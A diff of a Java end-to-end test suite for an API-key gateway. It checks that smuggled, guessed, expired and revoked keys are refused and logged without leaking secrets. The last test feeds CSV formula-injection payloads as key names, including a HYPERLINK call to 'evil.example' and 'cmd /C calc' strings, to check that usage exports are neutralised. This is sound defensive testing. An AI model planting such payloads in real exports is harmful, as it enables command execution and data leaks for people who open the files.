@@ -117,6 +117,11 @@ class KeysHostileE2EIT {
         }
     }
 
+    /** The evidence of a call refused on its headers: recorded under the gateway's id, which the answer names. */
+    static Map<String, Object> awaitEvidence(HttpResponse<String> r) {
+        return awaitEvidence(r.headers().firstValue("X-Request-Id").orElseThrow());
+    }
+
     static long chainEntries(String kind, String subject) throws Exception {
         return Keys.count("SELECT count(*) FROM evidence_chain WHERE kind = ? AND subject_id::text = ?", kind, subject);
     }
@@ -190,26 +195,24 @@ class KeysHostileE2EIT {
         variants.put("Bearer inside api-key", new String[] {"api-key", "Bearer " + secret});
         variants.put("two keys in one header", new String[] {"Authorization", "Bearer " + secret + "," + other});
         int before = stack().demo.calls();
-        List<String> rids = new ArrayList<>();
+        List<HttpResponse<String>> refusals = new ArrayList<>();
         for (Map.Entry<String, String[]> v : variants.entrySet()) {
-            String rid = newRequestId();
-            rids.add(rid);
-            HttpResponse<String> r = chat(rid, v.getValue());
+            HttpResponse<String> r = chat(newRequestId(), v.getValue());
+            refusals.add(r);
             assertThat(r.statusCode()).as(v.getKey() + " -> " + r.body()).isEqualTo(401);
             assertThat(r.body()).as(v.getKey()).doesNotContain(secret).doesNotContain(other);
         }
         // the key in the query string, with no header: nothing authenticates the call
         for (String q : List.of("?api-key=", "?api_key=", "?key=", "?access_token=")) {
-            String rid = newRequestId();
-            rids.add(rid);
             HttpResponse<String> r = send(stack().gatewayUrl(), "POST", CHAT_PATH + q + secret,
-                    chatBody("demo-model", "hello"), rid);
+                    chatBody("demo-model", "hello"), newRequestId());
+            refusals.add(r);
             assertThat(r.statusCode()).as("key in the query " + q + " -> " + r.body()).isEqualTo(401);
         }
         assertThat(stack().demo.calls()).as("refused calls reach no upstream").isEqualTo(before);
-        for (String rid : rids) {
-            Map<String, Object> e = awaitEvidence(rid);
-            assertThat(e.get("outcome")).as(rid).isEqualTo("unauthenticated");
+        for (HttpResponse<String> r : refusals) {
+            Map<String, Object> e = awaitEvidence(r);
+            assertThat(e.get("outcome")).isEqualTo("unauthenticated");
             assertThat(String.valueOf(e.get("auth_error"))).doesNotContain(secret).doesNotContain(secret.substring(4))
                     .doesNotContain(other.substring(4));
         }
@@ -228,10 +231,9 @@ class KeysHostileE2EIT {
                 secret + "A",
                 secret.substring(0, 4) + new StringBuilder(secret.substring(4)).reverse());
         for (String g : guesses) {
-            String rid = newRequestId();
-            HttpResponse<String> r = chat(rid, "Authorization", "Bearer " + g);
+            HttpResponse<String> r = chat(newRequestId(), "Authorization", "Bearer " + g);
             assertThat(r.statusCode()).as("guess " + guesses.indexOf(g)).isEqualTo(401);
-            Map<String, Object> e = awaitEvidence(rid);
+            Map<String, Object> e = awaitEvidence(r);
             assertThat(e.get("outcome")).isEqualTo("unauthenticated");
             assertThat(e.get("subject")).as("a guess never names the owner").isNull();
             assertThat(e.get("key_id")).isNull();
@@ -249,25 +251,23 @@ class KeysHostileE2EIT {
         String fresh = key(o).path("key").asText();
         Map<String, String> p = stack().extraGatewaySettings();
         p.put("attest.instance-id", "keys-hostile");
-        p.put("attest.policy.file", "tests/e2e-policy.yaml");
         p.put("attest.approval.admin.client-secret-env", "");
         p.put("attest.approval.admin.client-secret-file", stack().work.resolve("gateway-client.secret").toString());
         p.put("attest.keys.misses-per-source", "5");
         String base = "http://127.0.0.1:" + p.get("attest.data.port");
         Gateway gw = new Gateway(p).start();
         try {
-            List<String> rids = new ArrayList<>();
+            List<HttpResponse<String>> refusals = new ArrayList<>();
             for (int i = 0; i < 12; i++) {
                 String wrong = "atk_" + Base64.getUrlEncoder().withoutPadding().encodeToString(
                         MessageDigest.getInstance("SHA-256").digest(UUID.randomUUID().toString().getBytes()));
-                String rid = newRequestId();
-                rids.add(rid);
-                HttpResponse<String> r = send(base, "POST", CHAT_PATH, chatBody("demo-model", "hello"), rid,
-                        "Authorization", "Bearer " + wrong);
+                HttpResponse<String> r = send(base, "POST", CHAT_PATH, chatBody("demo-model", "hello"),
+                        newRequestId(), "Authorization", "Bearer " + wrong);
                 assertThat(r.statusCode()).as("wrong key " + i).isEqualTo(401);
+                refusals.add(r);
             }
-            for (String rid : rids) {
-                assertThat(awaitEvidence(rid).get("outcome")).as("every refusal is evidence").isEqualTo("unauthenticated");
+            for (HttpResponse<String> r : refusals) {
+                assertThat(awaitEvidence(r).get("outcome")).as("every refusal is evidence").isEqualTo("unauthenticated");
             }
             // past the misses a source gets no look-ups: a valid key never seen on this replica is not resolved
             HttpResponse<String> r = send(base, "POST", CHAT_PATH, chatBody("demo-model", "hello"), newRequestId(),
@@ -292,9 +292,9 @@ class KeysHostileE2EIT {
         String id = k.path("id").asText();
         await().atMost(Duration.ofSeconds(10)).pollInterval(Duration.ofMillis(250))
                 .until(() -> chat(newRequestId(), "x-api-key", secret).statusCode() == 401);
-        String rid = newRequestId();
-        assertThat(chat(rid, "x-api-key", secret).statusCode()).isEqualTo(401);
-        assertThat(awaitEvidence(rid).get("auth_error")).isEqualTo("key expired");
+        HttpResponse<String> refused = chat(newRequestId(), "x-api-key", secret);
+        assertThat(refused.statusCode()).isEqualTo(401);
+        assertThat(awaitEvidence(refused).get("auth_error")).isEqualTo("key expired");
         await().atMost(Duration.ofSeconds(40)).until(() -> chainEntries("key.expired", id) > 0);
         assertThat(chainEntries("key.expired", id)).isEqualTo(1);
         assertThat(chainEntries("key.created", id)).isEqualTo(1);
@@ -314,10 +314,10 @@ class KeysHostileE2EIT {
         await().atMost(Duration.ofSeconds(5)).pollInterval(Duration.ofMillis(100))
                 .until(() -> chat(newRequestId(), "api-key", secret).statusCode() == 401);
         for (int i = 0; i < 5; i++) {
-            String rid = newRequestId();
-            assertThat(chat(rid, i % 2 == 0 ? "Authorization" : "x-api-key",
-                    (i % 2 == 0 ? "Bearer " : "") + secret).statusCode()).as("once refused, always").isEqualTo(401);
-            assertThat(awaitEvidence(rid).get("auth_error")).isEqualTo("key revoked");
+            HttpResponse<String> r = chat(newRequestId(), i % 2 == 0 ? "Authorization" : "x-api-key",
+                    (i % 2 == 0 ? "Bearer " : "") + secret);
+            assertThat(r.statusCode()).as("once refused, always").isEqualTo(401);
+            assertThat(awaitEvidence(r).get("auth_error")).isEqualTo("key revoked");
         }
         HttpResponse<String> again = Keys.revoke(o.token(), id);
         assertThat(again.statusCode()).as("deleted twice: " + again.body()).isEqualTo(409);
@@ -467,21 +467,25 @@ class KeysHostileE2EIT {
                 "not json",
                 "{\"name\":\"x\"} {\"name\":\"y\"}");
         int before = JSON.readTree(Keys.list(token).body()).toString().split("\"id\"").length;
+        org.assertj.core.api.SoftAssertions soft = new org.assertj.core.api.SoftAssertions();
+        int created = 0;
         for (String body : bad) {
             HttpResponse<String> r = Keys.create(token, body);
             if (r.statusCode() == 201) {
                 stack().secrets.add(JSON.readTree(r.body()).path("key").asText());
+                created++;
             }
-            assertThat(r.statusCode()).as(body + " -> " + r.body()).isEqualTo(400);
-            assertThat(r.body()).doesNotContain("atk_");
+            soft.assertThat(r.statusCode()).as(body + " -> " + r.body().replaceAll("atk_[A-Za-z0-9_-]{40,}",
+                    "atk_<secret>")).isEqualTo(400);
         }
         HttpResponse<String> huge = Keys.create(token, "{\"name\":\"" + "n".repeat(1024 * 1024) + "\"}");
-        assertThat(huge.statusCode()).as("a 1 MiB name").isIn(400, 413);
-        assertThat(JSON.readTree(Keys.list(token).body()).toString().split("\"id\"").length)
-                .as("no key was created").isEqualTo(before);
+        soft.assertThat(huge.statusCode()).as("a 1 MiB name").isIn(400, 413);
+        soft.assertThat(JSON.readTree(Keys.list(token).body()).toString().split("\"id\"").length)
+                .as("no key was created").isEqualTo(before + created);
         HttpResponse<String> dave = Keys.create(stack().userToken("dave"), "{\"name\":\"x\"}");
-        assertThat(dave.statusCode()).as("a user without a creator role: " + dave.body()).isEqualTo(403);
-        assertThat(Keys.create("", "{\"name\":\"x\"}").statusCode()).isEqualTo(401);
+        soft.assertThat(dave.statusCode()).as("a user without a creator role: " + dave.body()).isEqualTo(403);
+        soft.assertThat(Keys.create("", "{\"name\":\"x\"}").statusCode()).isEqualTo(401);
+        soft.assertAll();
     }
 
     @Test
@@ -549,9 +553,9 @@ class KeysHostileE2EIT {
         try {
             await().atMost(Duration.ofSeconds(62)).pollInterval(Duration.ofSeconds(1))
                     .until(() -> chat(newRequestId(), "x-api-key", secret).statusCode() == 401);
-            String rid = newRequestId();
-            assertThat(chat(rid, "x-api-key", secret).statusCode()).isEqualTo(401);
-            assertThat(awaitEvidence(rid).get("auth_error")).isEqualTo("key owner disabled or deleted");
+            HttpResponse<String> r = chat(newRequestId(), "x-api-key", secret);
+            assertThat(r.statusCode()).isEqualTo(401);
+            assertThat(awaitEvidence(r).get("auth_error")).isEqualTo("key owner disabled or deleted");
         } finally {
             Keys.setEnabled(o.id(), true);
         }
@@ -745,8 +749,13 @@ class KeysHostileE2EIT {
     @Order(16)
     void should_guard_usage_csv_cells_against_formulas_carried_by_a_key_name() throws Exception {
         Owner o = newOwner();
-        List<String> names = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "@SUM(A1)",
-                "-2+3", "\tcmd", "=cmd|' /C calc'!A0");
+        // names are 1-100 of letters, digits, spaces and . _ : / @ ( ) -: '=' and '+' are refused at creation,
+        // but '@' and '-' start a formula too
+        for (String name : List.of("=HYPERLINK(\"http://evil.example/\")", "+1+1", "\tcmd")) {
+            HttpResponse<String> r = Keys.create(o.token(), JSON.createObjectNode().put("name", name).toString());
+            assertThat(r.statusCode()).as(name + " -> " + r.body()).isEqualTo(400);
+        }
+        List<String> names = List.of("@SUM(A1:A9)", "-2-3", "@cmd /C calc", "-cmd(1)");
         List<String> ids = new ArrayList<>();
         for (String name : names) {
             JsonNode k = key(o, JSON.createObjectNode().put("name", name).toString());
@@ -757,6 +766,7 @@ class KeysHostileE2EIT {
         for (String by : List.of("key", "user", "model", "day")) {
             String text = auditUsage("by=" + by + "&identity=" + URLEncoder.encode(o.username(), StandardCharsets.UTF_8)
                     + "&format=csv");
+            System.out.println("[keys-hostile] usage CSV by=" + by + ":\n" + text);
             for (List<String> row : csv(text)) {
                 for (String cell : row) {
                     if (!cell.isEmpty() && !cell.matches("-?\\d+(\\.\\d+)?")) {
